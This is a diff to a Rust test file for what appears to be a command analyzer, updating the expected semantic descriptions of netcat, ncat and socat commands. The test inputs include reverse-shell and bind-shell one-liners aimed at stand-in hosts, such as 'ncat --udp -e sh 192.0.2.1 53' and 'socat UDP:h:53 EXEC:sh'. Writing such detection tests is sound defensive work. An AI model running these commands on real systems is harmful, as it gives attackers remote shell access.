@@ -27,7 +27,7 @@ fn netcat_ties_a_program_to_its_connection() {
         ),
         (
             "nc -c 'id' 192.0.2.1 4444",
-            "connect 1 192.0.2.1 4444 ; evaluate shell `id`",
+            "connect 1 192.0.2.1 4444 ; evaluate shell `id` ; send 1 {output of id}",
         ),
         (
             "ncat --udp -e sh 192.0.2.1 53",
@@ -57,7 +57,7 @@ fn netcat_waits() {
         ),
         (
             "ncat -lk 0.0.0.0 31337 --sh-exec id",
-            "listen 1 0.0.0.0:31337 ; evaluate shell `id`",
+            "listen 1 0.0.0.0:31337 ; evaluate shell `id` ; send 1 {output of id}",
         ),
         ("nc -l 8080", "listen 1 :8080"),
         ("nc -lU /tmp/s", "listen 1 unix :/tmp/s"),
@@ -138,7 +138,7 @@ fn socat_in_either_order() {
         ),
         (
             "socat OPENSSL:h:443,verify=0 SYSTEM:'id -u'",
-            "connect 1 tls h 443 ; evaluate shell `id -u`",
+            "connect 1 tls h 443 ; evaluate shell `id -u` ; send 1 {output of id}",
         ),
         (
             "socat UDP:h:53 EXEC:sh",
